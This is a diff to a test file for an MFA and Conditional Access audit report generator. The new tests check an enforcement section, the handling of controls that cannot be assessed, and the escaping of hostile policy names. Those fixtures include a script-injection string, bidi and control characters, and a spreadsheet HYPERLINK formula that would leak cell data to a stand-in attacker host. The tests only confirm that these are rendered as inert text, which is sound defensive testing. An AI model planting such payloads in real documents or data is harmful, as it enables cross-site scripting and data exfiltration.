@@ -68,6 +68,7 @@ describe('audit.html', () => {
     expect(ids).toEqual([
       'admins-without-phishing-resistant-method',
       'mfa-capable-below-target',
+      'mfa-not-enforced-for-all-users',
       'passwordless-below-target',
       'registration-failures-spike',
       'sspr-enabled-not-registered',
@@ -118,7 +119,7 @@ describe('audit.html', () => {
   });
 
   it('has every section, the score cards and the charts inline', () => {
-    for (const id of ['document-control', 'summary', 'metrics', 'findings', 'coverage', 'methodology', 'appendix-sources', 'appendix-metrics', 'glossary']) {
+    for (const id of ['document-control', 'summary', 'metrics', 'enforcement', 'findings', 'coverage', 'methodology', 'enforcement-model', 'appendix-sources', 'appendix-metrics', 'glossary']) {
       expect(html).toContain(`id="${id}"`);
     }
     expect(html.match(/<svg /g)).toHaveLength(7);
@@ -128,6 +129,57 @@ describe('audit.html', () => {
     expect(html).toContain('1,098 / 1,284');
     expect(html).toContain('72f988bf-86f1-41af-91ab-2d7cd011db47');
     expect(html).toContain('2026-11-27T09:14:41.087Z');
+  });
+
+  it('shows hostile Conditional Access policy names and notes as text: markup escaped, bidi and control characters visible', () => {
+    const section = html.slice(html.indexOf('id="enforcement"'), html.indexOf('</section>', html.indexOf('id="enforcement"')));
+    expect(section).toContain('<td><bdi>CA001: Require MFA for all users &lt;script&gt;alert(1)&lt;/script&gt;</bdi></td>');
+    expect(section).toContain('<bdi>CA002: Admins [U+202E]phishing-resistant[U+202C] strength</bdi>');
+    expect(section).toContain('CA004: Block legacy authentication[U+0007]');
+    expect(section).toContain('<bdi>CA006 &lt;b&gt;Kiosk&lt;/b&gt;[U+202E] devices</bdi>');
+    expect(section).toContain('<li>CA006 &lt;b&gt;Kiosk&lt;/b&gt;[U+202E]: authentication strength');
+    expect(section).toContain('=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;Guests: terms of use&quot;)');
+    expect(html).not.toMatch(/<script|<b>Kiosk/);
+    expect(html).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u202A-\u202E\u2066-\u2069]/);
+  });
+
+  it('shows the enforcement coverage, the admins, the registered-vs-enforced cross-tab and the methods policy', () => {
+    const section = html.slice(html.indexOf('id="enforcement"'), html.indexOf('</section>', html.indexOf('id="enforcement"')));
+    expect(section).toContain('<h2 id="enforcement-h"><span class="section-no">3</span> MFA enforcement</h2>');
+    // the stacked bar: one segment per class, widths are the shares, with a text alternative
+    expect(section).toContain('aria-label="MFA coverage of the enforcement population: Enforced 86.3%, Conditional 8.7%, Report-only 0.0%, None 5.0%"');
+    expect(section).toContain('<div class="seg seg-enforced" style="width: 86.3%"></div>');
+    expect(section).toMatch(/<strong>Enforced<\/strong>.*?<td class="num">1,190<\/td><td class="num">86\.3%<\/td>/);
+    expect(section).toContain('<tr><th scope="row">MFA not enforced</th><td class="num">150 (10.9%)</td><td class="num">39 (2.8%)</td><td class="num">189 (13.7%)</td></tr>');
+    expect(section).toMatch(/Admins with phishing-resistant MFA enforced<div class="tiny muted">9 \/ 23 admins · target: all admins<\/div><\/th><td class="num gap">39\.1%<\/td>/);
+    expect(section).toContain('<td>SMS</td><td class="mono">Sms</td><td class="on">Enabled</td><td>all users</td>');
+    expect(section).toContain('<span class="badge role-report_only">Report-only</span>');
+    expect(section).not.toContain('Not assessable.');
+    // the executive summary has it as a headline card, with its target
+    const summary = html.slice(html.indexOf('id="summary"'), html.indexOf('</section>', html.indexOf('id="summary"')));
+    expect(summary).toMatch(/<p class="card-title">MFA enforced by policy<\/p>\s*<p class="card-value">86\.3%/);
+  });
+
+  it('marks a control whose evidence is missing as not assessable, and one only supported as not tested', () => {
+    const section = html.slice(html.indexOf('id="coverage"'), html.indexOf('</section>', html.indexOf('id="coverage"')));
+    const row = (id: string) => {
+      // the control tables follow the matrix
+      const start = section.indexOf(`<td class="mono">${id}`, section.indexOf('class="coverage-fw"'));
+      return section.slice(start, section.indexOf('</tr>', start));
+    };
+    expect(row('SI-4')).toContain('<span class="badge status-not_assessable">Not assessable</span>');
+    expect(row('SI-4')).toContain('<span class="ce-key">Tested by</span> <a class="plain mono" href="#finding-registration-failures-spike">registration-failures-spike</a>');
+    expect(row('SI-4')).toContain('<span class="ce" title="userEventsSummary"><span class="ce-key">Data</span> activity reports</span>');
+    expect(row('5.2.2.5')).toContain('<span class="badge status-not_applicable">Not tested</span>');
+    expect(row('5.2.2.5')).toContain('<span class="ce-key">Supported by</span> <a class="plain mono" href="#finding-admins-without-phishing-resistant-method">admins-without-phishing-resistant-method</a>');
+    expect(row('5.2.2.5')).not.toContain('Tested by');
+    expect(row('MS.AAD.3.2v2')).toMatch(/Tested by<\/span> <a[^>]*>mfa-not-enforced-for-all-users<\/a><\/span><span class="ce"><span class="ce-key">Supported by<\/span> <a[^>]*>mfa-capable-below-target<\/a>/);
+    expect(section).toContain('<span class="badge status-not_assessable">Not assessable 1</span>');
+    // in the matrix, a supported control is in brackets beside the tested ones
+    expect(section).toContain('<td class="mono">5.2.3.4</td><td class="mono"><span class="supported">(MS.AAD.3.2v2)</span></td>');
+    // the badge has its own style
+    expect(html).toMatch(/\.status-not_assessable \{[^}]*dashed/);
+    expect(section).toContain('registration data only <strong>supports</strong> it (no verdict)');
   });
 
   it('is byte-identical when rendered twice, into another folder', async () => {
@@ -154,6 +206,28 @@ describe('audit.html', () => {
     ]);
     expect(index[2]).toContain(',186,Run a registration campaign so every member registers Microsoft Authenticator or a passkey.,');
     expect(index[2]).toMatch(/,mfa-capable-below-target\.csv$/);
+  });
+});
+
+describe('enforcement not assessable', () => {
+  it('says "Not assessable" with the reason instead of numbers, in the section, the summary and summary.md', async () => {
+    const results = await loadSample();
+    const reason = 'Enforcement not assessable: source conditionalAccessPolicies forbidden (missing permission or role) HTTP 403 <Authorization_RequestDenied>.';
+    results.enforcement = { ...results.enforcement, assessable: false, basis: 'not assessable', notes: [reason], policies: [] };
+    for (const id of Object.keys(results.metrics)) if (id.startsWith('enforcement.')) results.metrics[id] = { value: null };
+    const dir = await scratch('not-assessable');
+    await renderPack(results, { resultsDir: SAMPLE_DIR, outDir: dir, branding: BRANDING, pdf: false });
+    const page = await readFile(join(dir, 'audit.html'), 'utf8');
+    const section = page.slice(page.indexOf('id="enforcement"'), page.indexOf('</section>', page.indexOf('id="enforcement"')));
+    expect(section).toContain(
+      '<div class="callout callout-warn"><strong>Not assessable.</strong> Enforcement not assessable: source conditionalAccessPolicies forbidden (missing permission or role) HTTP 403 &lt;Authorization_RequestDenied&gt;. No enforcement share is reported',
+    );
+    expect(section).not.toMatch(/class="stack"|enf-cross|enf-classes|\d+\.\d%/);
+    expect(section).toContain('No Conditional Access policy could be read.');
+    expect(page).toMatch(/<p class="card-title">MFA enforced by policy<\/p>[\s\S]*?Not assessable \(section 3\)/);
+    const md = await readFile(join(dir, 'summary.md'), 'utf8');
+    expect(md).toContain('**Not assessable.** Enforcement not assessable: source conditionalAccessPolicies forbidden (missing permission or role) HTTP 403 &lt;Authorization\\_RequestDenied&gt;.');
+    expect(md).not.toContain('| Enforced');
   });
 });
 
